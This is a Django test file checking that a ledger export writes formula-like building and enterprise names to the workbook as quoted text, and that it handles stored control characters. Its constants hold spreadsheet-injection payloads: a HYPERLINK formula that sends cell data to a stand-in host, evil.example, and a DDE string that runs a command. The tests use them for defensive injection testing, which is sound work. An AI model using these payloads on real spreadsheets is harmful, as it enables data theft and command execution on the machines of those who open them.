"""Stored text that a spreadsheet would run, or that a workbook cannot hold, is exported as plain text."""

from __future__ import annotations

import io

from django.urls import reverse
from openpyxl import load_workbook

from mantianxing.carriers.models import Building
from mantianxing.core.testing import PersonaTestCase
from mantianxing.enterprises.models import Enterprise
from mantianxing.imports.tests.test_web import content_of

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DDE = "+cmd|' /C calc'!A0"


class HostileExportTests(PersonaTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        # Written past the validators, as data stored before them would be.
        Building.objects.filter(pk=cls.building_yz.pk).update(name=HYPERLINK, address="@SUM(1+1)*cmd")
        Enterprise.objects.filter(pk=cls.enterprise_yz.pk).update(
            name="渝中\x07软件\x1b有限公司", registered_address=DDE
        )

    def cells(self, ledger: str) -> list:
        self.client.force_login(self.city_officer)
        response = self.client.get(reverse("imports:export", args=[ledger]))
        self.assertEqual(response.status_code, 200)
        sheet = load_workbook(io.BytesIO(content_of(response))).worksheets[0]
        return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]

    def test_it_writes_formula_like_names_as_text_in_the_ledger_exports(self) -> None:
        for ledger, payloads in (("buildings", {HYPERLINK, "@SUM(1+1)*cmd"}), ("enterprises", {DDE})):
            with self.subTest(ledger=ledger):
                found = {cell.value: cell for cell in self.cells(ledger)}
                self.assertLessEqual(payloads, set(found))
                for payload in payloads:
                    self.assertEqual(found[payload].data_type, "s")
                    self.assertTrue(found[payload].quotePrefix)
                self.assertFalse([c for c in found.values() if c.data_type == "f"])

    def test_it_exports_stored_control_characters_without_failing(self) -> None:
        values = {cell.value for cell in self.cells("enterprises")}
        self.assertIn("渝中软件有限公司", values)
